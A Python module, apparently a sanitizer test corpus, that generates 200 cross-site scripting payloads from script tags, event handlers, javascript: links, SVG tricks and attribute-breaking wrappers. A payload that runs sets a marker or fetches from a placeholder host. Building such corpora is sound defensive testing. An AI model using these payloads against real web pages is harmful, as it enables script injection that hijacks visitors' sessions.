"""Two hundred texts that would like to be a script, an element, an attribute, a link or a request.

Each sets `window.ran` or asks `outside.invalid` if it succeeds, so that success is seen whatever it does.
"""

from __future__ import annotations

_RUN = "window.ran=1"
_HOST = "//outside.invalid"

_ELEMENTS = (
    f"<script>{_RUN}</script>",
    f"<script src={_HOST}/x.js></script>",
    f"<ScRiPt >{_RUN}</sCrIpT >",
    f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    f"<img src=x onerror={_RUN}>",
    f"<img src={_HOST}/x.png>",
    f"<img/src/onerror={_RUN}>",
    f"<svg onload={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<svg><use href='{_HOST}/x.svg#a'/></svg>",
    f"<iframe srcdoc='<script>parent.{_RUN}</script>'></iframe>",
    f"<iframe src='javascript:parent.{_RUN}'></iframe>",
    f"<object data='{_HOST}/x'></object>",
    f"<embed src='{_HOST}/x'>",
    f"<body onload={_RUN}>",
    f"<details open ontoggle={_RUN}>",
    f"<video><source onerror={_RUN}></video>",
    f"<audio src=x onerror={_RUN}>",
    f"<input autofocus onfocus={_RUN}>",
    f"![x](https:{_HOST}/x.png)",
    f"[x](javascript:{_RUN})",
    f"<marquee onstart={_RUN}>",
    f"<a href='javascript:{_RUN}'>go</a>",
    f"<form action='javascript:{_RUN}'><button>go</button></form>",
    f"<math><mtext><script>{_RUN}</script></mtext></math>",
    f"<template><script>{_RUN}</script></template>",
    f"<style>@import '{_HOST}/x.css';</style>",
    f"<link rel=stylesheet href='{_HOST}/x.css'>",
    f"<meta http-equiv=refresh content='0;url={_HOST}'>",
    f"<base href='{_HOST}/'>",
    f"<table background='{_HOST}/x'>",
    f"<div style='background:url({_HOST}/x)'>",
    f"<dialog open oncancel={_RUN}>",
    f"<p onpointerenter={_RUN} style='position:fixed;inset:0'>",
    f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'>",
    f"$\\href{{javascript:{_RUN}}}{{x}}$",
    f"<![CDATA[<script>{_RUN}</script>]]>",
    f"<!--><script>{_RUN}</script>-->",
    "<script>alert('ran')</script>",
)
_AROUND = (
    "{}",
    '">{}',
    "'>{}",
    "</code></pre></label></text></svg>{}",
    "`{}` **{}**",
)

PAYLOADS = tuple(around.format(element, element) for around in _AROUND for element in _ELEMENTS)
